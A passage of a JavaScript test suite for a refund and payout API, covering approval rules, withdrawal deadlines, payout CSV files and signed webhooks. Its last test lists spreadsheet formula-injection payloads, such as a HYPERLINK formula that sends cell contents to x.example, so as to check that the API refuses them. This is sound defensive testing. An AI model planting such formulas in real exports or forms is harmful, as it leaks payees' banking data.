// Refunds against workerd: partial refunds that never exceed the payment (20 at once
// included), approval of the payee above a threshold (refunds split under it add up) by a
// restricted key that is not the creator and never reads the refund's secret, the refund
// window, refunds of an unexpected payment, the shopper's destination checked field by
// field with the refund's own client secret, cash pickup's withdrawal code held past its
// date until the rail voids it, a destination never chosen, the payout file (paged, read
// by a strict CSV reader: no cell a spreadsheet runs), a refund Idempotency-Key per
// merchant, purged vouchers, time stamps to the second, and the events verified with the
// official `standardwebhooks` package.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { Webhook } from 'standardwebhooks';
import { useEdge } from '../support/fixtures.mjs';
import { EFECTY_SECRET, PE_SECRET, api, efectyOrder, peBody, peOrder, peSign, postPe } from '../support/vale.mjs';
import { csvRecords, isE164, startsFormula } from '../support/csv.mjs';

const sha256 = (text) => createHash('sha256').update(text).digest('hex');
// Refunds above COP 30.000 / PEN 20.00 wait for approval.
const MERCHANTS = JSON.stringify([{
  id: 'mer_local', name: 'Tienda Local',
  keys: [{ sha256: sha256('sk_test_local'), mode: 'test', role: 'secret' },
    { sha256: sha256('rk_test_local'), mode: 'test', role: 'restricted' }],
  test: { pagoefectivo_secret: PE_SECRET, efecty_secret: EFECTY_SECRET },
  efecty_convenio: '112233',
  refund_approval_above: { COP: 3_000_000, PEN: 2_000 },
}, {
  // This store gives back money a voucher could not take, at once.
  id: 'mer_000000000000000000000003', name: 'Tienda Que Devuelve',
  keys: [{ sha256: sha256('sk_test_gives_back'), mode: 'test', role: 'secret' }],
  test: { pagoefectivo_secret: 'pe_gives_back_secret' },
  unexpected_payments: 'refund',
}, {
  // This store takes refunds for 60 days, so a refund can outlive a withdrawal's date.
  id: 'mer_000000000000000000000004', name: 'Tienda Paciente',
  keys: [{ sha256: sha256('sk_test_patient'), mode: 'test', role: 'secret' }],
  test: { efecty_secret: `whsec_${Buffer.from('efecty_patient_secret_key_0004').toString('base64')}` },
  efecty_convenio: '445566',
  refund_window_days: 60,
}]);

let receiver;
const received = [];
before(async () => {
  receiver = createServer((req, res) => {
    const chunks = [];
    req.on('data', (c) => chunks.push(c));
    req.on('end', () => {
      received.push({ headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
      res.writeHead(200).end();
    });
  });
  await new Promise((resolve) => receiver.listen(0, '127.0.0.1', resolve));
});
after(async () => {
  receiver?.closeAllConnections();
  await new Promise((resolve) => receiver?.close(resolve));
});
const edge = useEdge({ vars: { MERCHANTS } });
const merchant = edge.api();
const restricted = edge.api('rk_test_local');

const paid = async (order = efectyOrder()) => {
  const v = (await merchant.post('/v1/vouchers', order)).json;
  const r = await merchant.post(`/v1/sandbox/vouchers/${v.id}/pay`);
  assert.equal(r.status, 200, r.text);
  return v;
};
const refund = (body, headers) => merchant.post('/v1/refunds', body, headers ? { headers } : undefined);
const settle = (id) => merchant.post(`/v1/refunds/${id}/settle`, { reference: 'BANK-1' });
const asShopper = (r) => api(edge.base, r.client_secret);
const cash = { type: 'cash_pickup', name: 'Ana Pérez', document_type: 'CC', document_number: '1020304050', phone: '300 123 4567' };
const read = async (id) => (await merchant.get(`/v1/vouchers/${id}`)).json;
/** Polls `check` (every 200 ms, up to `ms`) until it answers something truthy; answers it. */
const until = async (check, ms = 15_000) => {
  for (const stop = Date.now() + ms; ;) {
    const got = await check();
    if (got) return got;
    if (Date.now() > stop) throw new Error(`not within ${ms} ms: ${check}`);
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
};
/** Today in UTC−05:00, as the payout file names days. */
const today = () => new Date(Date.now() - 5 * 3600_000).toISOString().slice(0, 10);
/** One page of a day's payout file (secret key). */
const payoutPage = async (day, query) => {
  const qs = new URLSearchParams(Object.entries(query).map(([k, v]) => [k, String(v)])).toString();
  const resp = await fetch(`${edge.base}/v1/payouts/files/${day}${qs ? `?${qs}` : ''}`,
    { headers: { authorization: 'Bearer sk_test_local' } });
  return { status: resp.status, headers: resp.headers, text: await resp.text() };
};
/** Every line of a day's payout file, page after page, read by a strict CSV reader. */
const payoutRecords = async (day) => {
  const records = [];
  for (let after = null; ;) {
    const page = await payoutPage(day, { limit: 900, ...(after ? { starting_after: after } : {}) });
    assert.equal(page.status, 200, page.text);
    records.push(...csvRecords(page.text));
    after = page.headers.get('vale-next-starting-after');
    if (!after) return records;
  }
};
/** A refund's line in today's payout file, once the index has it. */
const payoutLineOf = (id) => until(async () => (await payoutRecords(today())).find((x) => x.refund === id));

describe('the money rule', () => {
  test('two partial refunds, then one that would exceed: 400; settling moves the voucher', async () => {
    const v = await paid(efectyOrder({ amount: 5_000_000 }));
    const a = await refund({ voucher: v.id, amount: 2_000_000, reason: 'requested_by_customer' });
    assert.equal(a.status, 201, a.text);
    assert.equal(a.json.status, 'requires_action');
    assert.match(a.json.id, /^re_/);
    assert.ok(a.json.collect_url.includes(`/r/${a.json.id}?cs=`));
    const b = await refund({ voucher: v.id, amount: 2_000_000, reason: 'order_cancelled' });
    assert.equal(b.status, 201);
    const c = await refund({ voucher: v.id, amount: 2_000_000, reason: 'order_cancelled' });
    assert.equal(c.status, 400, c.text);
    assert.equal(c.json.error.code, 'amount_too_large');
    assert.equal((await read(v.id)).amount_refundable, 1_000_000);

    // Where the money goes, with the refund's own secret; then the bank settles it.
    const chosen = await asShopper(a.json).post(`/v1/refunds/${a.json.id}/destination`, { destination: cash });
    assert.equal(chosen.status, 200, chosen.text);
    assert.equal(chosen.json.status, 'processing');
    assert.equal(chosen.json.destination.document_number, '••••4050');
    assert.match(chosen.json.withdrawal.code, /^\d{10}$/);
    const done = await settle(a.json.id);
    assert.equal(done.json.status, 'succeeded', done.text);
    const after1 = await read(v.id);
    assert.equal(after1.status, 'partially_refunded');
    assert.equal(after1.amount_refunded, 2_000_000);
    // A cancelled refund gives its amount back; the rest refunded whole: refunded.
    assert.equal((await merchant.post(`/v1/refunds/${b.json.id}/cancel`)).json.status, 'cancelled');
    const rest = await refund({ voucher: v.id, reason: 'requested_by_customer' });
    assert.equal(rest.json.amount, 3_000_000);
    assert.equal(rest.json.status, 'requires_action', 'the shopper chooses first');
    // Changed with review M3: exactly the threshold alone, but above it with the 2.000.000
    // already refunded, so its payee waits for a restricted key's approval.
    assert.equal(rest.json.approval_required, true);
    const waiting = await asShopper(rest.json).post(`/v1/refunds/${rest.json.id}/destination`,
      { destination: { type: 'wallet', provider: 'nequi', phone: '+57 310 000 0001' } });
    assert.equal(waiting.json.status, 'pending_approval', waiting.text);
    assert.equal((await restricted.post(`/v1/refunds/${rest.json.id}/approve`)).json.status, 'processing');
    await settle(rest.json.id);
    const whole = await read(v.id);
    assert.equal(whole.status, 'refunded');
    assert.equal(whole.amount_refundable, 0);
    const listed = await merchant.get(`/v1/refunds?voucher=${v.id}`);
    assert.deepEqual(listed.json.data.map((r) => [r.id, r.status]),
      [[rest.json.id, 'succeeded'], [b.json.id, 'cancelled'], [a.json.id, 'succeeded']], 'newest first');
  });

  test('20 refund creates at once on one voucher never exceed what was paid', async () => {
    const v = await paid(peOrder({ amount: 2_500 }));
    const answers = await Promise.all([...Array(20)].map(() =>
      refund({ voucher: v.id, amount: 300, reason: 'duplicate' })));
    const made = answers.filter((r) => r.status === 201);
    assert.equal(made.length, 8, answers.map((r) => r.status).join(','));
    assert.ok(answers.filter((r) => r.status !== 201).every((r) => r.json.error.code === 'amount_too_large'));
    assert.equal((await read(v.id)).amount_refundable, 100);
  });

  test('the refund window: 15 days after the payment, then 400 refund_window_closed', async () => {
    const v = await paid(peOrder());
    await merchant.post(`/v1/sandbox/vouchers/${v.id}/advance`, { seconds: 16 * 86_400 });
    const r = await refund({ voucher: v.id, reason: 'requested_by_customer' });
    assert.equal(r.status, 400);
    assert.equal(r.json.error.code, 'refund_window_closed');
    const pending = (await merchant.post('/v1/vouchers', peOrder())).json;
    const unpaid = await refund({ voucher: pending.id, reason: 'requested_by_customer' });
    assert.equal(unpaid.json.error.code, 'voucher_not_refundable');
  });

  test('an unexpected payment is refunded on its own, leaving the voucher paid', async () => {
    const v = await paid(peOrder());
    // Paid a second time under another operation: money the voucher could not take.
    assert.equal((await postPe(edge.base, peBody({ cip: v.payment_code, operation: `again-${Date.now()}` }))).status, 200);
    assert.deepEqual((await read(v.id)).unexpected_payments.map((p) => p.reason), ['paid_twice']);
    const r = await refund({ voucher: v.id, unexpected_payment: 0, reason: 'overpayment' });
    assert.equal(r.status, 201, r.text);
    assert.equal(r.json.amount, 2_500);
    assert.equal(r.json.unexpected_payment, true);
    const again = await refund({ voucher: v.id, unexpected_payment: 0, reason: 'overpayment' });
    assert.equal(again.json.error.code, 'amount_too_large');
    assert.equal((await refund({ voucher: v.id, unexpected_payment: 1, reason: 'overpayment' })).status, 400);
    await asShopper(r.json).post(`/v1/refunds/${r.json.id}/destination`,
      { destination: { type: 'wallet', provider: 'yape', phone: '987654321' } });
    await settle(r.json.id);
    const voucher = await read(v.id);
    assert.equal(voucher.status, 'paid', 'the voucher\'s own payment was not refunded');
    assert.equal(voucher.amount_refundable, 2_500);
  });

  test('with unexpected_payments: refund, money a voucher could not take is offered back at once', async () => {
    const store = api(edge.base, 'sk_test_gives_back');
    const v = (await store.post('/v1/vouchers', peOrder())).json;
    await store.post(`/v1/sandbox/vouchers/${v.id}/pay`);
    const body = peBody({ cip: v.payment_code, operation: `twice-${Date.now()}` });
    const sent = await postPe(edge.base, body, peSign(body, 'pe_gives_back_secret'));
    assert.equal(sent.status, 200);
    const again = await postPe(edge.base, body, peSign(body, 'pe_gives_back_secret'));
    assert.equal(again.json.duplicate, true);
    const refunds = (await store.get(`/v1/refunds?voucher=${v.id}`)).json.data;
    assert.deepEqual(refunds.map((r) => [r.reason, r.amount, r.status, r.unexpected_payment]),
      [['overpayment', 2_500, 'requires_action', true]], 'one refund, however many messages');
  });

  test('idempotency: the same key and body replays, another body is 422', async () => {
    const v = await paid(peOrder());
    const key = { 'idempotency-key': `refund-${Date.now()}` };
    const body = { voucher: v.id, amount: 500, reason: 'requested_by_customer' };
    const first = await refund(body, key);
    const replay = await refund(body, key);
    assert.equal(first.status, 201);
    assert.equal(replay.status, 201, 'the first response again');
    assert.equal(replay.headers.get('idempotent-replayed'), 'true');
    assert.equal(replay.json.id, first.json.id);
    assert.equal((await refund({ ...body, amount: 600 }, key)).status, 422);
  });
});

describe('approval', () => {
  test('above the threshold: the shopper chooses, then a restricted key that is not the creator approves that payee', async () => {
    const v = await paid(efectyOrder({ amount: 5_000_000 }));
    const r = (await refund({ voucher: v.id, reason: 'requested_by_customer' })).json;
    // Changed with review M3: it used to start pending_approval and be approved before any
    // destination; now the shopper chooses first and the approval binds that payee.
    assert.equal(r.status, 'requires_action');
    assert.equal(r.approval_required, true);
    assert.equal((await merchant.post(`/v1/refunds/${r.id}/approve`)).status, 403);
    assert.equal((await restricted.post(`/v1/refunds/${r.id}/approve`)).status, 409, 'no payee to approve yet');
    const chosen = await asShopper(r).post(`/v1/refunds/${r.id}/destination`, { destination: cash });
    assert.equal(chosen.status, 200, chosen.text);
    assert.equal(chosen.json.status, 'pending_approval');
    assert.equal(chosen.json.withdrawal, null, 'no withdrawal code before the approval');
    assert.equal(chosen.json.destination.document_number, '••••4050');
    assert.equal((await merchant.post(`/v1/refunds/${r.id}/approve`)).status, 403);
    const ok = await restricted.post(`/v1/refunds/${r.id}/approve`);
    assert.equal(ok.status, 200, ok.text);
    assert.equal(ok.json.status, 'processing');
    assert.match(ok.json.withdrawal.code, /^\d{10}$/);
    assert.match(ok.json.approved_at, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d-05:00$/);
    assert.equal((await restricted.post(`/v1/refunds/${r.id}/approve`)).status, 409);
    const other = (await refund({ voucher: v.id, amount: 3_000_001, reason: 'fraudulent' }));
    assert.equal(other.status, 400, 'the first holds 5.000.000 already');
    const v2 = await paid(efectyOrder({ amount: 5_000_000 }));
    const r2 = (await refund({ voucher: v2.id, reason: 'fraudulent' })).json;
    assert.equal((await restricted.post(`/v1/refunds/${r2.id}/reject`)).json.status, 'cancelled', 'rejected before the shopper chose');
    assert.equal((await read(v2.id)).amount_refundable, 5_000_000);
    assert.equal((await restricted.post('/v1/refunds', { voucher: v2.id, reason: 'fraudulent' })).status, 403, 'a restricted key cannot create');
  });

  test('Regression (review M3): refunds split under the threshold add up, and the one that crosses it waits', async () => {
    // mer_local's threshold here is COP 3.000.000 (minor units).
    const v = await paid(efectyOrder({ amount: 5_000_000 }));
    const open = async (amount) => {
      const r = await refund({ voucher: v.id, amount, reason: 'requested_by_customer' });
      assert.equal(r.status, 201, r.text);
      assert.equal(r.json.status, 'requires_action');
      return r.json;
    };
    const a = await open(1_500_000);
    const b = await open(1_500_000);
    const c = await open(1_000_000);
    assert.deepEqual([a, b, c].map((r) => r.approval_required), [false, false, true],
      'a and b reach the threshold exactly; c takes the sum above it');
    const wallet = { type: 'wallet', provider: 'daviplata', phone: '3100000002' };
    const chose = async (r) => (await asShopper(r).post(`/v1/refunds/${r.id}/destination`, { destination: wallet })).json;
    assert.equal((await chose(a)).status, 'processing');
    assert.equal((await chose(c)).status, 'pending_approval', 'the crossing piece waits');
    // A cancelled piece no longer counts: the next one under the threshold does not wait.
    assert.equal((await merchant.post(`/v1/refunds/${b.id}/cancel`)).json.status, 'cancelled');
    assert.equal((await merchant.post(`/v1/refunds/${c.id}/cancel`)).json.status, 'cancelled');
    assert.equal((await open(1_500_000)).approval_required, false);
    assert.equal((await open(100)).approval_required, true);
  });

  test('Regression (review M3): approval binds the payee; neither the creator nor the approver can redirect it', async () => {
    const v = await paid(efectyOrder({ amount: 5_000_000 }));
    const r = (await refund({ voucher: v.id, reason: 'requested_by_customer' })).json;
    // The restricted approver cannot even read the refund's secret or page.
    const seen = await restricted.get(`/v1/refunds/${r.id}`);
    assert.equal(seen.status, 200, seen.text);
    assert.deepEqual([seen.json.client_secret, seen.json.collect_url], [undefined, undefined]);
    assert.ok(!seen.text.includes(r.client_secret));
    assert.equal((await restricted.post(`/v1/refunds/${r.id}/destination`, { destination: cash })).status, 403);
    // The creator does hold it (the create's answer): the shopper's choice is what waits.
    const ana = { type: 'bank_account', bank: 'Bancolombia', account_type: 'savings', account_number: '12345678',
      holder_name: 'Ana Pérez', document_type: 'CC', document_number: '1020304050' };
    const mallory = { ...ana, bank: '1051', account_number: '87654321', holder_name: 'Mallory Doe' };
    const shopper = asShopper(r);
    assert.equal((await shopper.post(`/v1/refunds/${r.id}/destination`, { destination: ana })).json.status, 'pending_approval');
    const redirect = await shopper.post(`/v1/refunds/${r.id}/destination`, { destination: mallory });
    assert.equal(redirect.status, 409, 'no new payee while the approver reads this one');
    assert.equal(redirect.json.error.code, 'refund_state_invalid');
    const waiting = (await restricted.get(`/v1/refunds/${r.id}`)).json;
    assert.deepEqual([waiting.destination.holder_name, waiting.destination.account_number], ['Ana Pérez', '••••5678']);
    const approved = await restricted.post(`/v1/refunds/${r.id}/approve`);
    assert.equal(approved.json.status, 'processing', approved.text);
    assert.equal(approved.json.client_secret, undefined, 'the approver\'s answer has no secret either');
    // After the approval a new destination needs a new approval: it is refused, so the
    // money goes only where it was approved.
    assert.equal((await shopper.post(`/v1/refunds/${r.id}/destination`, { destination: mallory })).status, 409);
    const line = await payoutLineOf(r.id);
    assert.deepEqual([line.name, line.bank, line.bank_code, line.account_number], ['Ana Pérez', 'Bancolombia', '1007', '12345678']);
  });

  test('Regression (review M3): a restricted key reads a refund, the lists and the events without client_secret or collect_url', async () => {
    const v = await paid(peOrder());
    const r = (await refund({ voucher: v.id, amount: 1_000, reason: 'requested_by_customer' })).json;
    const page = new URL(r.collect_url).pathname + new URL(r.collect_url).search;
    const clean = (text, what) => {
      assert.ok(!text.includes(r.client_secret), `${what}: the refund's secret`);
      assert.ok(!text.includes(page), `${what}: the refund's page`);
    };
    const refundsOf = (list) => list.json.data.filter((x) => x.id === r.id);
    const one = await restricted.get(`/v1/refunds/${r.id}`);
    clean(one.text, 'GET /v1/refunds/{id}');
    const byVoucher = await restricted.get(`/v1/refunds?voucher=${v.id}`);
    assert.equal(refundsOf(byVoucher).length, 1);
    clean(byVoucher.text, 'GET /v1/refunds?voucher=');
    const listed = await until(async () => {
      const list = await restricted.get('/v1/refunds?limit=100');
      return refundsOf(list).length === 1 && list;
    });
    clean(listed.text, 'GET /v1/refunds');
    const events = await until(async () => {
      const list = await restricted.get('/v1/events?type=refund.created&limit=100');
      return list.json.data.some((e) => e.data.id === r.id) && list;
    });
    clean(events.text, 'GET /v1/events');
    const event = events.json.data.find((e) => e.data.id === r.id);
    const single = await restricted.get(`/v1/events/${event.id}`);
    assert.equal(single.status, 200, single.text);
    assert.equal(single.json.data.id, r.id);
    clean(single.text, 'GET /v1/events/{id}');
    for (const data of [one.json, refundsOf(byVoucher)[0], refundsOf(listed)[0], event.data, single.json.data]) {
      assert.deepEqual([data.client_secret, data.collect_url], [undefined, undefined]);
    }
    // The secret key still reads them (these reads can tell the difference).
    const full = (await merchant.get(`/v1/events/${event.id}`)).json.data;
    assert.deepEqual([full.client_secret, full.collect_url], [r.client_secret, r.collect_url]);
    assert.equal((await merchant.get(`/v1/refunds/${r.id}`)).json.client_secret, r.client_secret);
  });
});

describe('the shopper\'s page and the destination', () => {
  test('the refund secret reads its display view (CORS) and nothing else', async () => {
    const v = await paid(efectyOrder());
    const a = (await refund({ voucher: v.id, amount: 1_000_000, reason: 'requested_by_customer' })).json;
    const b = (await refund({ voucher: v.id, amount: 1_000_000, reason: 'requested_by_customer' })).json;
    const shopper = asShopper(a);
    const view = await shopper.get(`/v1/refunds/${a.id}`);
    assert.equal(view.status, 200, view.text);
    assert.equal(view.headers.get('access-control-allow-origin'), '*');
    assert.equal(view.json.client_secret, undefined);
    assert.equal(view.json.metadata, undefined);
    assert.deepEqual(view.json.destination_types, ['cash_pickup', 'bank_account', 'wallet']);
    assert.equal((await shopper.get(`/v1/refunds/${b.id}`)).status, 403);
    assert.equal((await shopper.post(`/v1/refunds/${a.id}/cancel`)).status, 403);
    assert.equal((await shopper.get(`/v1/vouchers/${v.id}`)).status, 403);
    assert.equal((await merchant.post(`/v1/refunds/${a.id}/destination`, { destination: cash })).status, 403);
    assert.equal((await api(edge.base, `${a.id}_secret_000000000000000000000000`).get(`/v1/refunds/${a.id}`)).status, 401);
    const keyed = await merchant.get(`/v1/refunds/${a.id}`);
    assert.equal(keyed.headers.get('access-control-allow-origin'), null);
  });

  test('bad destination input of every kind: 400 naming the field, nothing stored', async () => {
    const v = await paid(peOrder());
    const r = (await refund({ voucher: v.id, amount: 1_000, reason: 'requested_by_customer' })).json;
    const shopper = asShopper(r);
    const cases = [
      [{ type: 'cash_pickup', ...cash }, 'destination.type'],
      [{ type: 'bank_account', bank: 'BCP', account_type: 'savings', cci: '123', holder_name: 'Ana Pérez', document_type: 'DNI', document_number: '44556677' }, 'destination.cci'],
      [{ type: 'bank_account', bank: 'BCP', account_type: 'savings', cci: '00219300123456789012', holder_name: 'Ana Pérez', document_type: 'RUC', document_number: '20100070971' }, 'destination.document_number'],
      [{ type: 'bank_account', bank: 'BCP', account_type: 'loan', cci: '00219300123456789012', holder_name: 'Ana Pérez', document_type: 'DNI', document_number: '44556677' }, 'destination.account_type'],
      [{ type: 'wallet', provider: 'nequi', phone: '987654321' }, 'destination.provider'],
      [{ type: 'wallet', provider: 'yape', phone: '3001234567' }, 'destination.phone'],
      [{ type: 'wallet', provider: 'yape' }, 'destination.phone'],
      [{ type: 'cheque' }, 'destination.type'],
      ['yape', 'destination'],
    ];
    for (const [destination, field] of cases) {
      const bad = await shopper.post(`/v1/refunds/${r.id}/destination`, { destination });
      assert.equal(bad.status, 400, `${JSON.stringify(destination)}: ${bad.text}`);
      assert.equal(bad.json.error.param, field, JSON.stringify(destination));
    }
    const raw = await shopper.call('POST', `/v1/refunds/${r.id}/destination`, { raw: '{not json' });
    assert.equal(raw.status, 400);
    const still = (await merchant.get(`/v1/refunds/${r.id}`)).json;
    assert.equal(still.status, 'requires_action');
    assert.equal(still.destination, null);
  });
});

describe('deadlines, payout file and events', () => {
  test('Regression (review H2): a withdrawal past its date is held, not failed; void_withdrawal releases it', async () => {
    const v = await paid(efectyOrder());
    const r = (await refund({ voucher: v.id, amount: 1_000_000, reason: 'requested_by_customer' })).json;
    const prepared = (await asShopper(r).post(`/v1/refunds/${r.id}/destination`, { destination: cash })).json;
    assert.equal(prepared.withdrawal.status, 'collectable');
    await merchant.post(`/v1/sandbox/vouchers/${v.id}/advance`, { seconds: 31 * 86_400 });
    // Changed with review H2: it used to become failed / collection_expired here, with its
    // amount refundable again, on Vale's own clock. Now it is only marked past due.
    const due = await until(async () => {
      const now = (await merchant.get(`/v1/refunds/${r.id}`)).json;
      return now.withdrawal.status === 'past_due' && now;
    });
    assert.deepEqual([due.status, due.failure_reason, due.withdrawal.code], ['processing', null, prepared.withdrawal.code]);
    assert.equal((await read(v.id)).amount_refundable, v.amount - 1_000_000, 'still held');
    const marked = await until(async () => {
      const list = (await merchant.get('/v1/events?type=refund.updated&limit=100')).json.data;
      return list.find((e) => e.data.id === r.id && e.data.withdrawal?.status === 'past_due');
    });
    assert.equal(marked.data.status, 'processing');
    assert.equal((await restricted.post(`/v1/refunds/${r.id}/void_withdrawal`)).status, 403);
    const voided = await merchant.post(`/v1/refunds/${r.id}/void_withdrawal`);
    assert.equal(voided.status, 200, voided.text);
    assert.deepEqual([voided.json.status, voided.json.failure_reason, voided.json.withdrawal.status],
      ['failed', 'collection_expired', 'void']);
    assert.equal((await read(v.id)).amount_refundable, v.amount, 'refundable again once the rail said so');
    assert.equal((await merchant.post(`/v1/refunds/${r.id}/void_withdrawal`)).status, 409);
    assert.equal((await merchant.post(`/v1/refunds/${r.id}/settle`)).status, 409);
    await until(async () => (await merchant.get('/v1/events?type=refund.failed&limit=100')).json.data
      .some((e) => e.data.id === r.id && e.data.failure_reason === 'collection_expired'));
    // A payout that is not a cash pickup has no withdrawal to void.
    const pe = await paid(peOrder());
    const b = (await refund({ voucher: pe.id, amount: 500, reason: 'requested_by_customer' })).json;
    await asShopper(b).post(`/v1/refunds/${b.id}/destination`, { destination: { type: 'wallet', provider: 'yape', phone: '987654321' } });
    const notCash = await merchant.post(`/v1/refunds/${b.id}/void_withdrawal`);
    assert.deepEqual([notCash.status, notCash.json.error.code], [409, 'refund_state_invalid']);
    const expired = await merchant.post(`/v1/refunds/${b.id}/fail`, { failure_reason: 'collection_expired' });
    assert.deepEqual([expired.status, expired.json.error.param], [400, 'failure_reason']);
    assert.equal((await merchant.get(`/v1/refunds/${b.id}`)).json.status, 'processing');
  });

  test('Regression (review H2): a withdrawal collected on day 31 is recorded, and nothing became refundable in between', async () => {
    // A store whose 60-day refund window outlives the 30-day withdrawal.
    const store = api(edge.base, 'sk_test_patient');
    const v = (await store.post('/v1/vouchers', efectyOrder())).json;
    assert.equal((await store.post(`/v1/sandbox/vouchers/${v.id}/pay`)).status, 200);
    const r = (await store.post('/v1/refunds', { voucher: v.id, reason: 'requested_by_customer' })).json;
    assert.equal(r.amount, v.amount);
    const chosen = await api(edge.base, r.client_secret).post(`/v1/refunds/${r.id}/destination`, { destination: cash });
    assert.equal(chosen.json.status, 'processing', chosen.text);
    await store.post(`/v1/sandbox/vouchers/${v.id}/advance`, { seconds: 31 * 86_400 });
    await until(async () => (await store.get(`/v1/refunds/${r.id}`)).json.withdrawal.status === 'past_due');
    const voucher = (await store.get(`/v1/vouchers/${v.id}`)).json;
    assert.deepEqual([voucher.status, voucher.amount_refundable], ['paid', 0]);
    const second = await store.post('/v1/refunds', { voucher: v.id, reason: 'requested_by_customer' });
    assert.equal(second.status, 400, second.text);
    assert.equal(second.json.error.code, 'amount_too_large', 'refused for the money held, not the window');
    const collected = await store.post(`/v1/refunds/${r.id}/settle`, { reference: 'EFECTY-GIRO-1' });
    assert.equal(collected.status, 200, collected.text);
    assert.deepEqual([collected.json.status, collected.json.withdrawal.status], ['succeeded', 'collected']);
    assert.equal((await store.get(`/v1/vouchers/${v.id}`)).json.status, 'refunded');
  });

  test('the sandbox payout simulator settles or fails a processing refund; live keys have none', async () => {
    const v = await paid(peOrder());
    const a = (await refund({ voucher: v.id, amount: 500, reason: 'requested_by_customer' })).json;
    const b = (await refund({ voucher: v.id, amount: 500, reason: 'requested_by_customer' })).json;
    assert.equal((await merchant.post(`/v1/sandbox/refunds/${a.id}/succeed`)).status, 409, 'not processing yet');
    for (const r of [a, b]) {
      await asShopper(r).post(`/v1/refunds/${r.id}/destination`, { destination: { type: 'wallet', provider: 'yape', phone: '987654321' } });
    }
    assert.equal((await merchant.post(`/v1/sandbox/refunds/${a.id}/succeed`)).json.status, 'succeeded');
    const failed = (await merchant.post(`/v1/sandbox/refunds/${b.id}/fail`)).json;
    assert.deepEqual([failed.status, failed.failure_reason], ['failed', 'payout_rejected']);
    assert.equal((await read(v.id)).amount_refunded, 500);
  });

  test('a destination never chosen: the refund expires after 45 days', async () => {
    const v = await paid(peOrder());
    const r = (await refund({ voucher: v.id, amount: 1_000, reason: 'requested_by_customer' })).json;
    assert.equal(r.status, 'requires_action');
    await merchant.post(`/v1/sandbox/vouchers/${v.id}/advance`, { seconds: 46 * 86_400 });
    let now;
    for (const stop = Date.now() + 15_000; Date.now() < stop;) {
      now = (await merchant.get(`/v1/refunds/${r.id}`)).json;
      if (now.status !== 'requires_action') break;
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    assert.equal(now.status, 'expired');
  });

  test('the payout file carries the day\'s payouts whole, to the secret key only; lines settle and fail', async () => {
    const v = await paid(peOrder());
    const r = (await refund({ voucher: v.id, amount: 1_000, reason: 'product_not_received' })).json;
    const bank = { type: 'bank_account', bank: 'BCP', account_type: 'savings', cci: '002-193-001234567890-12',
      holder_name: 'Ana Pérez', document_type: 'DNI', document_number: '44556677' };
    const chosen = await asShopper(r).post(`/v1/refunds/${r.id}/destination`, { destination: bank });
    assert.equal(chosen.json.destination.cci, '••••9012');
    const day = new Date(Date.now() - 5 * 3600_000).toISOString().slice(0, 10);
    let file = '';
    for (const stop = Date.now() + 15_000; Date.now() < stop && !file.includes(r.id);) {
      const resp = await fetch(`${edge.base}/v1/payouts/files/${day}`, { headers: { authorization: 'Bearer sk_test_local' } });
      assert.equal(resp.headers.get('content-type'), 'text/csv; charset=utf-8');
      file = await resp.text();
      if (!file.includes(r.id)) await new Promise((resolve) => setTimeout(resolve, 200));
    }
    const line = file.split('\n').find((l) => l.startsWith(r.id));
    assert.ok(line, file);
    assert.deepEqual(line.split(',').slice(2, 11),
      ['1000', 'PEN', 'bank_account', 'Ana Pérez', 'DNI', '44556677', 'BCP', 'savings', '00219300123456789012']);
    assert.equal((await restricted.get(`/v1/payouts/files/${day}`)).status, 403);
    assert.equal((await merchant.get('/v1/payouts/files/yesterday')).status, 400);
    const failed = await merchant.post(`/v1/refunds/${r.id}/fail`, { failure_reason: 'name_mismatch' });
    assert.equal(failed.json.status, 'failed');
    assert.equal((await merchant.post(`/v1/refunds/${r.id}/settle`)).status, 409);
    assert.equal((await merchant.post(`/v1/refunds/${r.id}/fail`, { failure_reason: 'nope' })).status, 400);
  });

  test('refund events reach the store, signed (standardwebhooks), and the index lists refunds', async () => {
    const ep = (await merchant.post('/v1/webhook_endpoints', {
      url: `http://127.0.0.1:${receiver.address().port}/refunds`,
      events: ['refund.created', 'refund.updated', 'refund.succeeded', 'voucher.refunded'],
    })).json;
    const v = await paid(peOrder({ amount: 1_500 }));
    const r = (await refund({ voucher: v.id, reason: 'requested_by_customer' })).json;
    await asShopper(r).post(`/v1/refunds/${r.id}/destination`, { destination: { type: 'wallet', provider: 'plin', phone: '+51 912 345 678' } });
    await settle(r.id);
    const about = () => received.map((d) => JSON.parse(d.body)).filter((e) => e.data.id === r.id || e.data.id === v.id);
    for (const stop = Date.now() + 20_000; Date.now() < stop && about().length < 4;) {
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    const hook = new Webhook(ep.secret);
    for (const d of received) hook.verify(d.body, d.headers);
    assert.deepEqual(about().map((e) => e.type).sort(), ['refund.created', 'refund.succeeded', 'refund.updated', 'voucher.refunded']);
    const succeeded = about().find((e) => e.type === 'refund.succeeded');
    assert.equal(succeeded.data.destination.phone, '••••5678');
    assert.ok(!JSON.stringify(about()).includes('912345678'), 'events carry numbers masked');
    let listed = [];
    for (const stop = Date.now() + 15_000; Date.now() < stop && !listed.includes(r.id);) {
      listed = (await merchant.get('/v1/refunds?status=succeeded&limit=100')).json.data.map((x) => x.id);
      if (!listed.includes(r.id)) await new Promise((resolve) => setTimeout(resolve, 200));
    }
    assert.ok(listed.includes(r.id));
    assert.equal((await merchant.get('/v1/refunds?status=nope')).status, 400);
  });
});

describe('payout files, keys, money rules, purges and time stamps', () => {
  test('Regression (review M4): a formula in every free-text payout field never reaches a spreadsheet', async () => {
    const formula = '=HYPERLINK("https://x.example/?"&H3&K3,"ver")';
    // Colombia: every field the shopper types, with a formula; a field that could carry
    // one is refused, naming it.
    const co = await paid(efectyOrder());
    const r = (await refund({ voucher: co.id, amount: 1_000_000, reason: 'requested_by_customer' })).json;
    const shopper = asShopper(r);
    const bank = { type: 'bank_account', bank: 'Davivienda', account_type: 'savings', account_number: '12345678',
      holder_name: 'Ana Pérez', document_type: 'CC', document_number: '1020304050' };
    const tries = [
      [{ ...bank, bank: '+5+HYPERLINK("https://x.example/?"&H3&K3,"ver")' }, 'destination.bank'],
      [{ ...bank, bank: formula }, 'destination.bank'],
      [{ ...bank, holder_name: formula }, 'destination.holder_name'],
      [{ ...bank, holder_name: '@SUM(1)' }, 'destination.holder_name'],
      [{ ...bank, account_number: formula }, 'destination.account_number'],
